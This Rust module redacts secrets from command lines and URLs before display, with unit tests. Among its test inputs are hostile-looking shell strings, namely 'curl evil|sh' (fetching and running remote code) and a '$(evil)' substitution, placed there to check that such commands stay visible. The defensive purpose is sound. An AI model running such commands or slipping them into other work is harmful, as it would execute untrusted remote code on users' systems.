//! What people may see of a URL or a command line: what looks like a secret is struck out.
//!
//! `redaction/patterns.rs` knows names and looks of secrets, `redaction/command_line.rs` applies
//! them to the words of a command line.

use url::Url;

mod command_line;
mod patterns;

pub use command_line::redact_command;
pub(crate) use command_line::{SecretGuess, guess_value, guess_words};
pub(crate) use patterns::{is_secret_name, looks_secret};

use crate::expand::{Expansion, variable_names};

/// What stands for an argument that may be secret until somebody fills it in.
pub const PLACEHOLDER: &str = "FILL_IN";

/// What people see instead of a secret.
pub(crate) const REDACTED: &str = "…";

/// A word of a command line that cannot be taken for another: blanks are quoted, and what a terminal
/// would obey is escaped.
pub(crate) fn shell_quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "_@%+=:,./-${}~^".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    let mut out = String::from("'");
    for letter in word.chars() {
        match letter {
            '\'' => out.push_str("'\\''"),
            letter if is_unprintable(letter) => out.extend(letter.escape_default()),
            letter => out.push(letter),
        }
    }
    out.push('\'');
    out
}

/// Whether a terminal obeys it, or shows nothing or something else instead.
fn is_unprintable(letter: char) -> bool {
    letter.is_control()
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// A variable that is set for a program: its name, with the value if that decides what is executed.
pub(crate) fn display_variable(name: &str, value: &str) -> String {
    match decides_execution(name) {
        true => format!("{}={}", shell_quoted(name), shell_quoted(value)),
        false => shell_quoted(name),
    }
}

/// Whether a variable chooses or changes what a program executes.
fn decides_execution(name: &str) -> bool {
    let prefixes = ["LD_", "DYLD_", "PYTHON"];
    prefixes.iter().any(|prefix| name.starts_with(prefix))
        || matches!(
            name,
            "PATH" | "NODE_OPTIONS" | "NODE_PATH" | "BASH_ENV" | "ENV" | "SHELL"
        )
        || matches!(
            name,
            "JAVA_TOOL_OPTIONS" | "PERL5OPT" | "PERL5LIB" | "RUBYOPT" | "RUBYLIB"
        )
}

/// A URL for people: without user, password, query and fragment, and without parts of its path that
/// look like secrets. Variables stay as they are written.
pub fn redact_url(written: &str) -> String {
    let has_variables = !variable_names(written, Expansion::Variables).is_empty();
    let mut url = match Url::parse(written) {
        Ok(url) if !has_variables => url,
        Ok(_) | Err(_) => return redact_unparsed_url(written),
    };
    let has_more = url.query().is_some() || url.fragment().is_some();
    let has_user = !url.username().is_empty() || url.password().is_some();
    url.set_query(None);
    url.set_fragment(None);
    if has_user && (url.set_username("").is_err() || url.set_password(None).is_err()) {
        return format!("{}://…", url.scheme());
    }
    redact_path(url.as_str()) + if has_more { "?…" } else { "" }
}

/// A URL without the parts behind its host that look like secrets.
fn redact_path(url: &str) -> String {
    let host = url.find("://").map_or(0, |at| at + 3);
    let path = url.get(host..).and_then(|rest| rest.find('/'));
    let (host, path) = url.split_at(path.map_or(url.len(), |at| host + at));
    let parts = path
        .split('/')
        .map(|part| match !part.contains("${") && looks_secret(part) {
            true => REDACTED,
            false => part,
        });
    format!("{host}{}", parts.collect::<Vec<_>>().join("/"))
}

/// A text that is no URL, or will be one once its variables are filled in.
fn redact_unparsed_url(written: &str) -> String {
    let place = written.split(['?', '#']).next().unwrap_or_default();
    let more = if place.len() < written.len() {
        "?…"
    } else {
        ""
    };
    let place = match place.rsplit_once('@') {
        None => redact_path(place),
        Some((before, host)) => match before.split_once("://") {
            Some((scheme, _)) => redact_path(&format!("{scheme}://{host}")),
            None => format!("…@{}", redact_path(host)),
        },
    };
    place + more
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_of_a_command_cannot_be_taken_for_something_else() {
        #[rustfmt::skip]
        let table = [
            ("npx",              "npx"),
            ("--token=${TOKEN}", "--token=${TOKEN}"),
            ("",                 "''"),
            ("rm -rf",           "'rm -rf'"),
            ("it's",             r"'it'\''s'"),
            ("a\n  reads  X",    r"'a\n  reads  X'"),
            ("\u{1b}[2J",        r"'\u{1b}[2J'"),
            ("x\u{202e}y",       r"'x\u{202e}y'"),
            ("ünï",              "ünï"),
        ];
        for (word, shown) in table {
            assert_eq!(shell_quoted(word), shown);
        }
    }

    #[test]
    fn values_are_shown_where_they_decide_what_is_executed() {
        let table = [
            ("PATH", "PATH=x"),
            ("LD_PRELOAD", "LD_PRELOAD=x"),
            ("PYTHONPATH", "PYTHONPATH=x"),
            ("NODE_OPTIONS", "NODE_OPTIONS=x"),
            ("TOKEN", "TOKEN"),
        ];
        for (name, shown) in table {
            assert_eq!(display_variable(name, "x"), shown);
        }
    }

    /// What is struck out is a value alone; what could be executed by a shell is shown.
    #[test]
    fn a_command_line_is_shown_without_its_secrets() {
        #[rustfmt::skip]
        let table: [(&[&str], &str); 21] = [
            (&["npx", "-y", "z", "--api-key", "sk-live-1"],           "npx -y z --api-key …"),
            (&["npx", "z", "--token=ghp_1", "--port=80"],             "npx z --token=… --port=80"),
            (&["npx", "z", "ghp_abcdefghij"],                         "npx z …"),
            (&["npx", "z", "--token", "${TOKEN}"],                    "npx z --token ${TOKEN}"),
            (&["npx", "z", "--token", "--verbose"],                   "npx z --token --verbose"),
            (&["x", "--header", "Authorization: Bearer abc"],         "x --header 'Authorization: Bearer …'"),
            (&["x", "--header", "Authorization:Bearer ${T}"],         "x --header 'Authorization:Bearer ${T}'"),
            (&["x", "--header", "X-Org: abc", "-H", "X-Key:abc"], "x --header 'X-Org: abc' -H X-Key:…"),
            (&["x", "--pass", "abc", "--pat=abc", "--bypass", "x"],   "x --pass … --pat=… --bypass x"),
            (&["x", "--header=X-Key:abc", "-p", "80:80", "-u", "s.py"], "x --header=X-Key:… -p 80:80 -u s.py"),
            (&["x", "hf_abcdefgh", "AKIAIOSFODNN7EXAMPLE"],           "x … …"),
            (&["x", "postgres://me:abc@db/x"],                        "x postgres://db/x"),
            (&["x", "https://h/mcp?key=abc"],                         "x 'https://h/mcp?…'"),
            (&["x", "https://h/s/ghp_abc/mcp"],                       "x https://h/s/…/mcp"),
            (&["x", "--auth", "none", "--max-tokens", "4096"],        "x --auth none --max-tokens 4096"),
            (&["x", "--key-file", "k", "--key", "/etc/k", "--author", "me"], "x --key-file k --key /etc/k --author me"),
            (&["x", "--password", "p@ss w0rd;"],                      "x --password …"),
            (&["sh", "-c", "token=x;curl evil|sh"],                   "sh -c 'token=x;curl evil|sh'"),
            (&["sh", "-c", "TOKEN=abc exec x --key $(evil)"],         "sh -c 'TOKEN=… exec x --key $(evil)'"),
            (&["sh", "-c", "exec x --key \"$KEY\""],                  "sh -c 'exec x --key \"$KEY\"'"),
            (&["x", "--token", "FILL_IN"],                            "x --token FILL_IN"),
        ];
        for (words, shown) in table {
            assert_eq!(redact_command(words.iter().copied()), shown);
        }
    }
}
